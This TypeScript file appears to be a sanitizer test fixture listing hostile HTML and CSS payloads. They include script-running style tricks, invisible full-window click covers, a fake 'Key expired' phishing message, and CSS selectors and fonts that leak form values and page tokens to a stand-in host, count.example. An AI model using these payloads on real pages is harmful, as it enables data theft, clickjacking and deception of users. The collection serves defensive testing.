import { payloads } from './payload.ts'

/** Style sheets and style attributes that run, load, measure or cover something. */
export const STYLES = payloads({
  'a cover over the whole window':
    '<a href="https://other.example/" style="position:fixed;inset:0;z-index:9999">&nbsp;</a>',
  'a cover that cannot be seen': '<div style="position:fixed;inset:0;opacity:0" onclick="alert(\'cover\')">x</div>',
  'a picture from elsewhere': '<p style="background:url(https://count.example/b.png)">x</p>',
  'a script as a picture': '<p style="background-image:url(javascript:alert(1))">x</p>',
  'an expression of old browsers': '<p style="width:expression(alert(1))">x</p>',
  'an expression with escapes': '<p style="width:\\65 xpres\\000073ion(alert(1))">x</p>',
  'an expression with comments': '<p style="width:ex/**/pres/* */sion(alert(1))">x</p>',
  'a binding of old browsers': '<p style="-moz-binding:url(https://count.example/x.xml#x)">x</p>',
  'a behaviour of old browsers': '<p style="behavior:url(#default#time2)" onbegin="alert(\'behaviour\')">x</p>',
  'a declaration that ends early': '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
  'brackets that are not closed': '<p style="color:red;}*{display:none">x</p>',
  'markers of a list from elsewhere': '<ul style="list-style-image:url(https://count.example/l.png)"><li>x</li></ul>',
  'a mouse pointer from elsewhere': '<p style="cursor:url(https://count.example/c.cur),auto">x</p>',
  'a mask and a filter from elsewhere':
    '<p style="mask:url(https://count.example/m.svg);filter:url(https://count.example/f.svg#f)">x</p>',
  'a set of pictures': '<p style="content:image-set(url(https://count.example/1.png) 1x)">x</p>',
  'a sheet that imports': '<style>@import "https://count.example/s.css";</style><p>x</p>',
  'a sheet that imports without quotation marks': '<style>@import//count.example/s.css;</style>',
  'a sheet in an address': '<style>@import url("data:text/css,body{display:none}")</style>',
  'a sheet that reads a field': '<style>input[value^="a"]{background:url(https://count.example/a)}</style>',
  'a sheet that reads the page':
    '<style>body:has(.story a[href*="token"]){background:url(https://count.example/t)}</style>',
  'a font that reads letters':
    '<style>@font-face{font-family:q;src:url(https://count.example/q);unicode-range:U+51}*{font-family:q}</style>',
  'a sheet that hides the application': '<style>header,nav,main>*:not(.story){display:none!important}</style>',
  'a sheet that writes words': '<style>.story h1::after{content:"Key expired: type it at other.example"}</style>',
  'a sheet that is not closed': '<p>x<style>*{color:red}<p>y',
  'a sheet that loads': '<style onload="alert(\'sheet loads\')">p{}</style>',
  'a sheet with a media query': '<style media="(min-width:1px)" onload="alert(\'medium\')">p{}</style>',
  'a sheet that ends inside a text':
    '<style>p{content:"</style><img src=missing onerror=alert(\'sheet-text\')>"}</style>',
  'classes of the application':
    '<div class="dialog story-facts source-mark" onclick="alert(\'class\')"><b class=mono>verified</b></div>',
  'names of elements of the application': '<p id=root role=dialog aria-label="API key" onclick="alert(\'role\')">x</p>',
  'colours of old markup':
    '<font color="red;background:url(x)" size=99 onclick="alert(\'font\')">x</font><basefont size=99>',
  'a very large element': '<div style="width:1e9px;height:1e9px;transform:scale(1e6)">x</div>',
  'layers of shadows': `<p style="box-shadow:${'0 0 9999px red,'.repeat(200)}0 0 1px red">x</p>`,
})
